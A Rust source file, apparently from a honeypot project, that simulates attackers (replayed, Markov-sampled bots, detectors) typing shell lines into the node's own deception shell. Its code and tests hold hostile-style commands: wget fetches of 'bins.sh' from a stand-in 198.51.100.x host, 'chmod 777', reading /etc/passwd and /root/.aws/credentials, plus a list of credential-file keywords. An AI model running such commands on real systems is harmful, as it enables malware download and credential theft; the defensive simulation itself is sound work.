//! [`AttackerActor`]: one simulated attacker, an actor in the node's own actix system.
//!
//! On [`Attack`] it logs in through a [`Terminal`], then loops: decide the next line from what
//! the last answer said, think (the virtual clock moves), type, read the answer and the
//! virtual time it took. It leaves when its behaviour says so, when the shell closes, or at
//! the session budget. Behaviours:
//!
//! - replayed: types its recording back, whatever the answers;
//! - bot: opens like a real session of its class, then samples each next command from the
//!   trained Markov model given its own history. It reacts to what it sees: a download that
//!   failed is retried once with the other tool (`wget` ↔ `curl`), and the bot leaves if that
//!   fails too; a breadcrumb (a path that looks like credentials, keys or backups) is read and
//!   keeps the bot three commands longer; three `command not found` in a row make it leave;
//! - detector: [`Detector`].

use std::sync::Arc;
use std::time::Duration;

use actix::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::Serialize;

use super::detector::{Detector, Move};
use super::driver::{Answer, Terminal};
use super::population::{Attacker, Kind, Opening, Plan};
use crate::actors::session_manager::SessionManager;
use crate::events::SessionOrigin;
use crate::models::context::SessionContext;
use crate::models::markov::Markov;
use crate::models::normalize::normalize_line;
use crate::sim::clock::Clock;

/// Words in a path that make a bot curious (breadcrumbs and honeytokens).
const BREADCRUMBS: &[&str] = &[
    "passw",
    "credential",
    "id_rsa",
    ".aws",
    "backup",
    ".env",
    "secret",
    "wallet",
    "token",
    ".sql",
    ".kdbx",
    "db.conf",
];
/// Most breadcrumbs a bot follows.
const MAX_CRUMBS: usize = 2;

/// What one attacker did.
#[derive(Debug, Clone, Serialize)]
pub struct Outcome {
    /// Its number in the population.
    pub index: usize,
    /// Its day.
    pub day: usize,
    /// Its kind.
    pub kind: Kind,
    /// Its class.
    pub class: String,
    /// Virtual seconds from login to leaving.
    pub dwell: f64,
    /// Lines typed.
    pub commands: usize,
    /// For a detector: the tell it left on (`None`: it found none).
    pub tell: Option<&'static str>,
    /// Whether it was cut off at the session budget.
    pub censored: bool,
    /// The deception settings its session ended with (`mirage.strategy`; `None` without
    /// Layer 3).
    pub settings: Option<String>,
    /// The reward (0..=1) the strategy layer learned from its session (`None` without
    /// Layer 3).
    pub reward: Option<f64>,
}

/// Start the attack; answers with what happened.
#[derive(Message)]
#[rtype(result = "Outcome")]
pub struct Attack;

/// One simulated attacker.
pub struct AttackerActor {
    attacker: Option<Attacker>,
    origin: SessionOrigin,
    manager: Addr<SessionManager>,
    clock: Clock,
    /// The attacker's own copy of the command model (bots sample from it).
    model: Option<Arc<Markov>>,
    /// The server's SSH banner.
    banner: String,
    /// The session budget.
    budget: Duration,
}

impl AttackerActor {
    /// An attacker that will connect as `origin` to `manager`'s node.
    pub fn new(
        attacker: Attacker,
        origin: SessionOrigin,
        manager: Addr<SessionManager>,
        clock: Clock,
        model: Option<Arc<Markov>>,
        (banner, budget): (String, Duration),
    ) -> AttackerActor {
        AttackerActor {
            attacker: Some(attacker),
            origin,
            manager,
            clock,
            model,
            banner,
            budget,
        }
    }
}

impl Actor for AttackerActor {
    type Context = Context<Self>;
}

impl Handler<Attack> for AttackerActor {
    type Result = ResponseFuture<Outcome>;

    fn handle(&mut self, _: Attack, _: &mut Context<Self>) -> Self::Result {
        let attacker = self.attacker.take();
        let origin = self.origin.clone();
        let manager = self.manager.clone();
        let clock = self.clock.clone();
        let model = self.model.clone();
        let banner = self.banner.clone();
        let budget = self.budget;
        Box::pin(async move {
            let Some(attacker) = attacker else {
                return Outcome {
                    index: 0,
                    day: 0,
                    kind: Kind::Replayed,
                    class: String::new(),
                    dwell: 0.0,
                    commands: 0,
                    tell: None,
                    censored: false,
                    settings: None,
                    reward: None,
                };
            };
            run(attacker, origin, &manager, &clock, model, &banner, budget).await
        })
    }
}

/// A behaviour: the next move given the last answer.
enum Behaviour {
    Replay(std::vec::IntoIter<(Duration, String)>),
    Bot(Bot),
    Detector(Detector),
}

impl Behaviour {
    fn next(&mut self, last: Option<&Answer>, rng: &mut StdRng) -> Move {
        match self {
            Behaviour::Replay(lines) => match lines.next() {
                Some((think, line)) => Move::Type { think, line },
                None => Move::Leave(None),
            },
            Behaviour::Bot(bot) => bot.next(last, rng),
            Behaviour::Detector(d) => d.next(last, rng),
        }
    }
}

async fn run(
    attacker: Attacker,
    origin: SessionOrigin,
    manager: &Addr<SessionManager>,
    clock: &Clock,
    model: Option<Arc<Markov>>,
    banner: &str,
    budget: Duration,
) -> Outcome {
    let mut rng = StdRng::seed_from_u64(attacker.seed);
    let mut outcome = Outcome {
        index: attacker.index,
        day: attacker.day,
        kind: attacker.kind,
        class: attacker.class.clone(),
        dwell: 0.0,
        commands: 0,
        tell: None,
        censored: false,
        settings: None,
        reward: None,
    };
    let mut behaviour = match attacker.plan {
        Plan::Replay(script) => Behaviour::Replay(script.lines.into_iter()),
        Plan::Bot(opening) => Behaviour::Bot(Bot::new(opening, &attacker.login, model)),
        Plan::Detector => Behaviour::Detector(Detector::new(&mut rng, banner)),
    };
    let start = clock.now();
    let Some(mut terminal) = Terminal::open(manager, origin, attacker.login, clock).await else {
        return outcome;
    };
    let mut last: Option<Answer> = None;
    loop {
        match behaviour.next(last.as_ref(), &mut rng) {
            Move::Leave(tell) => {
                tracing::debug!(index = outcome.index, tell = ?tell, "Simulated attacker left.");
                outcome.tell = tell;
                break;
            }
            Move::Type { think, line } => {
                if clock.since(start) + think >= budget {
                    outcome.censored = true;
                    break;
                }
                clock.advance(think);
                let answer = terminal.ask(&line).await;
                tracing::debug!(
                    index = outcome.index,
                    kind = outcome.kind.as_str(),
                    line = ?line,
                    output = ?answer.output,
                    status = answer.status,
                    took = answer.took.as_secs_f64(),
                    "Simulated attacker typed a line."
                );
                outcome.commands += 1;
                if !answer.open {
                    break;
                }
                last = Some(answer);
            }
        }
    }
    let dwell = clock.since(start).min(budget);
    if outcome.censored {
        // The attacker stayed the whole budget.
        clock.advance(budget.saturating_sub(clock.since(start)));
    }
    outcome.dwell = if outcome.censored {
        budget.as_secs_f64()
    } else {
        dwell.as_secs_f64()
    };
    terminal.close(manager).await;
    outcome
}

/// A generative bot.
struct Bot {
    opening: Opening,
    model: Option<Arc<Markov>>,
    context: SessionContext,
    typed: usize,
    /// Commands it means to run (grows when it finds breadcrumbs).
    length: usize,
    /// The download it retried (once), if any.
    retried: bool,
    crumbs: usize,
    not_found: usize,
}

impl Bot {
    fn new(
        opening: Opening,
        login: &crate::models::context::Login,
        model: Option<Arc<Markov>>,
    ) -> Bot {
        let length = opening.length.max(1);
        Bot {
            opening,
            model,
            context: SessionContext::new(login),
            typed: 0,
            length,
            retried: false,
            crumbs: 0,
            not_found: 0,
        }
    }

    fn think(rng: &mut StdRng) -> Duration {
        Duration::from_secs_f64(rng.gen_range(0.3..2.5))
    }

    fn typed(&mut self, line: String, rng: &mut StdRng) -> Move {
        for command in normalize_line(&line) {
            self.context.push(&command, None);
        }
        self.typed += 1;
        Move::Type {
            think: Self::think(rng),
            line,
        }
    }

    fn next(&mut self, last: Option<&Answer>, rng: &mut StdRng) -> Move {
        let Some(answer) = last else {
            let first = self.opening.first.clone();
            return self.typed(first, rng);
        };
        if answer.output.contains("command not found") {
            self.not_found += 1;
            if self.not_found >= 3 {
                return Move::Leave(None);
            }
        } else {
            self.not_found = 0;
        }
        if let Some(url) = download_url(&answer.line)
            && download_failed(answer)
        {
            if self.retried {
                return Move::Leave(None);
            }
            self.retried = true;
            let retry = if answer.line.contains("curl") {
                format!("wget {url}")
            } else {
                format!("curl -O {url}")
            };
            return self.typed(retry, rng);
        }
        if self.crumbs < MAX_CRUMBS
            && let Some(path) = breadcrumb(&answer.output)
        {
            self.crumbs += 1;
            self.length += 3;
            return self.typed(format!("cat {path}"), rng);
        }
        if self.typed >= self.length {
            return Move::Leave(None);
        }
        let Some(model) = &self.model else {
            return Move::Leave(None);
        };
        let predictions = model.predict_in(&self.context, 8);
        let total: f64 = predictions.iter().map(|p| p.probability).sum();
        if predictions.is_empty() || total <= 0.0 {
            return Move::Leave(None);
        }
        let mut roll = rng.gen_range(0.0..total);
        let mut token = predictions[0].token.clone();
        for p in &predictions {
            if roll < p.probability {
                token = p.token.clone();
                break;
            }
            roll -= p.probability;
        }
        let line = spell(&token, rng);
        self.typed(line, rng)
    }
}

/// The URL a `wget`/`curl` line fetches.
fn download_url(line: &str) -> Option<String> {
    if !(line.contains("wget") || line.contains("curl")) {
        return None;
    }
    line.split_whitespace()
        .find(|w| w.starts_with("http://") || w.starts_with("https://"))
        .map(|w| w.trim_end_matches(';').to_owned())
}

/// Whether a download's answer says it failed.
fn download_failed(answer: &Answer) -> bool {
    answer.status != 0
        || [
            "failed",
            "timed out",
            "refused",
            "resolve",
            "ERROR",
            "not found",
        ]
        .iter()
        .any(|w| answer.output.contains(w))
}

/// A path in `output` that looks like a breadcrumb.
fn breadcrumb(output: &str) -> Option<String> {
    output
        .split(|c: char| c.is_whitespace() || c == '\'' || c == '"' || c == ':')
        .filter(|w| w.starts_with('/') || w.starts_with("~/") || w.starts_with('.'))
        .find(|w| {
            let lower = w.to_ascii_lowercase();
            w.len() > 2 && BREADCRUMBS.iter().any(|b| lower.contains(b))
        })
        .map(str::to_owned)
}

/// A normalized token spelled as a concrete line (placeholders filled in).
fn spell(token: &str, rng: &mut StdRng) -> String {
    let mut out = String::with_capacity(token.len() + 16);
    let mut rest = token;
    while let Some(open) = rest.find('<') {
        out.push_str(&rest[..open]);
        let after = &rest[open..];
        let Some(close) = after.find('>') else {
            out.push_str(after);
            return out;
        };
        let name = &after[1..close];
        match name {
            "URL" => out.push_str(&format!(
                "http://198.51.100.{}/bins.sh",
                rng.gen_range(2..250)
            )),
            "IP" | "SRC_IP" => out.push_str(&format!("198.51.100.{}", rng.gen_range(2..250))),
            "NUM" => out.push_str(&rng.gen_range(100..65_000).to_string()),
            "HEX" => out.push_str("\\x41\\x42"),
            "B64" => out.push_str("aGVsbG8K"),
            "STR" => out.push_str("\"x\""),
            "RND" => {
                let name: String = (0..8)
                    .map(|_| char::from(b'a' + rng.gen_range(0..26u8)))
                    .collect();
                out.push_str(&name);
            }
            // `<` as typed (a redirection), not a placeholder.
            _ if name.is_empty()
                || !name
                    .chars()
                    .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_') =>
            {
                out.push('<');
                rest = &after[1..];
                continue;
            }
            _ => out.push('x'),
        }
        rest = &after[close + 1..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders_are_spelled_and_redirections_kept() {
        let mut rng = StdRng::seed_from_u64(1);
        let line = spell("cd /tmp; wget <URL>; chmod 777 <RND>", &mut rng);
        assert!(
            line.starts_with("cd /tmp; wget http://198.51.100."),
            "{line}"
        );
        assert!(!line.contains('<'), "{line}");
        assert_eq!(spell("cat < /etc/passwd", &mut rng), "cat < /etc/passwd");
    }

    #[test]
    fn breadcrumbs_and_failed_downloads_are_seen() {
        assert_eq!(
            breadcrumb("total 8\n-rw------- 1 root root 220 /root/.aws/credentials\n").as_deref(),
            Some("/root/.aws/credentials")
        );
        assert_eq!(breadcrumb("bin  boot  dev  etc"), None);
        let failed = Answer {
            line: "wget http://x/a.sh".into(),
            output: "failed: Connection refused.\n".into(),
            status: 4,
            ..Answer::default()
        };
        assert!(download_failed(&failed));
        assert_eq!(download_url(&failed.line).as_deref(), Some("http://x/a.sh"));
    }
}
